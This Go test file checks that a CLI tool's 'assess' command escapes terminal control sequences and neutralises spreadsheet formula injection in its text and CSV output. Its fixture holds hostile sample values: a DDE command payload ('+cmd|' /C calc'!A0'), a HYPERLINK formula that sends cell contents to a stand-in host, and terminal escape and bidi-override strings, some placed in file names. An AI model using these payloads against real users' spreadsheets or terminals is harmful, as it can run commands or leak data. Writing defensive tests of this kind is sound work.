package main

import (
	"encoding/csv"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// hostileAssessment is an Assessment whose text fields carry terminal
// escapes and spreadsheet formulas.
const hostileAssessment = `apiVersion: cnready/v1
kind: Assessment
system:
  id: "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")"
  name: "\e]0;pwned\a\e[2J\u009b31m\u202eevil"
  agency: "+cmd|' /C calc'!A0"
  description: "@SUM(1+1)"
checklist:
  answers: {1: Y}
`

// controlFree reports the first byte of s that would drive a terminal
// (C0 controls other than newline and tab, DEL, C1 controls in UTF-8, the
// bidi overrides), or -1.
func controlFree(s string) int {
	for i, r := range s {
		switch {
		case r == '\n' || r == '\t':
		case r < 0x20 || r == 0x7f || (r >= 0x80 && r <= 0x9f) || (r >= 0x202a && r <= 0x202e) || (r >= 0x2066 && r <= 0x2069):
			return i
		}
	}
	return -1
}

// TestAssessTextShowsControls: names, ids and error lines (which quote
// file names) in `assess` text output never carry raw control characters.
func TestAssessTextShowsControls(t *testing.T) {
	dir := t.TempDir()
	if err := os.WriteFile(filepath.Join(dir, "a.yaml"), []byte(hostileAssessment), 0o644); err != nil {
		t.Fatal(err)
	}
	bad := filepath.Join(dir, "b\x1b]0;title\a\x1b[2J.yaml")
	if err := os.WriteFile(bad, []byte("apiVersion: [\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	for _, lang := range []string{"en", "ko"} {
		s, stdout, stderr := testStreams("", nil)
		code := Main([]string{"assess", "--lang", lang, dir, filepath.Join(dir, "missing\x1b[31m.yaml")}, s)
		if code != exitFailed {
			t.Fatalf("exit %d\n%s", code, stderr)
		}
		for name, out := range map[string]string{"stdout": stdout.String(), "stderr": stderr.String()} {
			if i := controlFree(out); i >= 0 {
				t.Errorf("%s %s: raw control character at %d: %q", lang, name, i, out)
			}
		}
		if !strings.Contains(stdout.String(), "^[]0;pwned^G^[[2J") || !strings.Contains(stdout.String(), `\u202eevil`) {
			t.Errorf("%s: escapes not shown visibly:\n%s", lang, stdout)
		}
		if !strings.Contains(stdout.String(), "b^[]0;title^G^[[2J.yaml") {
			t.Errorf("%s: error line does not show the file name's escapes:\n%s", lang, stdout)
		}
	}
}

// TestAssessCSVNeutralisesFormulas: no cell of `assess --format csv`
// starts with a character a spreadsheet runs as a formula, and none
// carries a raw terminal control.
func TestAssessCSVNeutralisesFormulas(t *testing.T) {
	dir := t.TempDir()
	t.Chdir(dir) // relative file names, so a file cell starts with the name
	var args []string
	for name, content := range map[string]string{
		"a.yaml":          hostileAssessment,
		"=1+2.yaml":       "not: [an assessment\n",
		"-cmd.yaml":       "kind: [\n",
		"@x.yaml":         "\tbad",
		"ok-but-@x.yaml":  strings.Replace(hostileAssessment, `"=HYPERLINK`, `"\tHYPERLINK`, 1),
		"plain-name.yaml": strings.Replace(hostileAssessment, `"+cmd|' /C calc'!A0"`, `"-5"`, 1),
	} {
		if err := os.WriteFile(name, []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
		args = append(args, name)
	}
	s, stdout, stderr := testStreams("", nil)
	if code := Main(append([]string{"assess", "--format", "csv", "--"}, args...), s); code != exitFailed {
		t.Fatalf("exit %d\n%s", code, stderr)
	}
	out := strings.TrimPrefix(stdout.String(), "\ufeff")
	if i := controlFree(out); i >= 0 {
		t.Errorf("raw control character at %d: %q", i, out)
	}
	rows, err := csv.NewReader(strings.NewReader(out)).ReadAll()
	if err != nil {
		t.Fatalf("%v\n%s", err, out)
	}
	if len(rows) != 7 {
		t.Fatalf("%d rows:\n%s", len(rows), out)
	}
	seen := 0
	for _, row := range rows {
		for _, cell := range row {
			if cell == "" {
				continue
			}
			switch cell[0] {
			case '=', '+', '@', '\t', '\r':
				t.Errorf("formula cell %q", cell)
			case '-':
				if cell != "-5" {
					t.Errorf("formula cell %q", cell)
				}
			case '\'':
				seen++
			}
		}
	}
	if seen < 4 {
		t.Errorf("only %d neutralised cells:\n%s", seen, out)
	}
}
